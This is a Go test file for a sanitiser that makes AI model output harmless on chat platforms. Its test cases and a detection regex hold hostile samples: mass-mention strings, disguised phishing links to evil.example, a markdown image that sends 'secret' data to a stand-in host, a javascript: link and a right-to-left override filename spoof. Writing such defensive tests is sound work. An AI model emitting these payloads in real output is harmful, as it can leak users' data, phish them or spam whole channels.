package redact

import (
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// dangerous is what no platform may get to see of a model's output.
var dangerous = regexp.MustCompile(`(?i)@(everyone|here|channel|group)|<[@#]|<!(channel|here|everyone|subteam|date)|\]\(\s*https?:|[\x{202a}-\x{202e}\x{2066}-\x{2069}\x{feff}\x{00ad}\x{0000}]`)

func TestModelOutputBecomesHarmless(t *testing.T) {
	for in, want := range map[string]string{
		"hi @everyone and @Here":                         "hi ＠everyone and ＠Here",
		"@\u200beveryone @ever\u00adyone":                "＠everyone ＠everyone",
		"<!channel> <!here|here> <!subteam^S1|@ops>":     "＠channel ＠here ＠ops",
		"<@U123> <@U123|anna> <@!42> <@&43>":             "＠U123 ＠anna ＠42 ＠43",
		"<#C1|general> <#C2> <:wave:1> <a:wave:1>":       "#general #C2 :wave: :wave:",
		"mail anna@example.com or ask @anna":             "mail anna@example.com or ask @anna",
		"see [docs](https://go.dev/doc) now":             "see docs (https://go.dev/doc) now",
		"[https://go.dev/](https://go.dev)":              "https://go.dev",
		"[bank.com](https://evil.example/login)":         "bank.com (evil.example)",
		"[go.dev](https://pkg.go.dev/x)":                 "go.dev (https://pkg.go.dev/x)",
		"[main.go](https://git.example/main.go)":         "main.go (https://git.example/main.go)",
		"[a](https://bank.com@evil.example/)":            "a (evil.example)",
		"https://bank.com@evil.example/":                 "https://bank.com＠evil.example/",
		"https://medium.example/@anna":                   "https://medium.example/@anna",
		"<https://evil.example|bank.com>":                "bank.com (evil.example)",
		"<https://go.dev>":                               "https://go.dev",
		"![pixel](https://evil.example/p.png?d=secret)":  "pixel (`https://evil.example/p.png?d=secret`)",
		"[x](javascript:alert(1))":                       "[x] (javascript:alert(1))",
		"[x](\nhttps://evil.example)":                    "[x] (\nhttps://evil.example)",
		"[x][1]\n[1]: https://evil.example":              "[x][1]\n[1] : https://evil.example",
		"[3] and [4][5]":                                 "[3] and [4][5]",
		"<b>bold</b> <img src=x> 1 < 2 a<b":              "‹b>bold‹/b> ‹img src=x> 1 < 2 a‹b",
		"`List<String>` and ``a<b>`c``":                  "`List<String>` and ``a<b>`c``",
		"```\n<div>@everyone <!channel></div>\n```\n<i>": "```\n<div>＠everyone ＠channel</div>\n```\n‹i>",
		"```go\nh[i](w, r)":                              "```go\nh[i](w, r)\n```",
		"`[a](https://x.example)`":                       "`a (https://x.example)`",
		"```](https://x.example":                         "```] (https://x.example\n```",
		"a ` b <i> c":                                    "a ` b ‹i> c",
		"pay\u202ecod.exe":                               "paycod.exe",
		"می\u200cخواهم":                                  "می\u200cخواهم",
		"@[everyone](https://x.example)":                 "＠everyone (https://x.example)",
		"@ev[eryone](https://x.example)":                 "＠everyone (https://x.example)",
		"<<#C1|C2>>":                                     "‹#C2>",
		"bad \xff byte, \x1b[31mred":                     "bad \uFFFD byte, [31mred",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
	}
}

// sameForEveryCut checks one input with one way of cutting it.
func sameForEveryCut(t interface{ Fatalf(string, ...any) }, in string, cuts func(rest int) int) {
	want := Neutralise(in)
	if m := dangerous.FindString(want); m != "" {
		t.Fatalf("%q leaves %q in %q", in, m, want)
	}
	var s Stream
	var b strings.Builder
	for rest := in; rest != ""; {
		n := min(max(cuts(len(rest)), 1), len(rest))
		b.WriteString(s.Write(rest[:n]))
		if m := dangerous.FindString(tail(b.String())); m != "" {
			t.Fatalf("%q is live while streaming: %q", in, m)
		}
		rest = rest[n:]
	}
	b.WriteString(s.Close())
	if b.String() != want {
		t.Fatalf("input %q\npieces %q\nwhole  %q", in, b.String(), want)
	}
}

// tail is what the last piece can have changed.
func tail(s string) string { return strings.ToValidUTF8(s[max(0, len(s)-200):], "") }

var fragments = []string{"@", "everyone", "here", "@channel", "<", ">", "!", "<!channel>", "<@U1", "|", "[", "]", "(", ")", "](", "https://a.example", "b.com",
	"`", "``", "```", "\n", "\n\n", "\\", " ", "text", "é", "\u200b", "\u202e", "![", "<b>", "#C1", "a:b:1", "\xff", "\xe2\x80", "subteam^S", ":", "://x@y", "👩\u200d🚀"}

func TestEveryCutGivesTheSameHarmlessText(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		in := strings.Join(rapid.SliceOfN(rapid.SampledFrom(fragments), 0, 40).Draw(rt, "in"), "")
		sameForEveryCut(rt, in, func(rest int) int { return rapid.IntRange(1, 9).Draw(rt, "cut") })
		sameForEveryCut(rt, in, func(int) int { return 1 })
	})
}

func TestLongThingsAreNotHeldForEver(t *testing.T) {
	for _, open := range []string{"<a ", "[label ", "[x](https://a.example/", "`code ", "<!subteam^S1|", "```\n](" + strings.Repeat(" ", 99)} {
		in := open + strings.Repeat("long ", 2000)
		sameForEveryCut(t, in, func(int) int { return 7 })
		var s Stream
		if out := s.Write(in); len(out) < len(in)/2 {
			t.Errorf("%q holds back %d of %d bytes", open, len(in)-len(out), len(in))
		}
	}
}

func FuzzStream(f *testing.F) {
	for _, s := range fragments {
		f.Add("x"+s+"y", byte(1))
	}
	f.Add("[a](https://b.example) <@U1> `c` @everyone", byte(3))
	f.Fuzz(func(t *testing.T, in string, cut byte) {
		sameForEveryCut(t, in, func(int) int { return int(cut%16) + 1 })
	})
}

func BenchmarkNeutralise(b *testing.B) {
	text := strings.Repeat("A line with a [link](https://go.dev/doc), `code`, <b>tag</b> and @anna.\n", 60)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		Neutralise(text)
	}
}
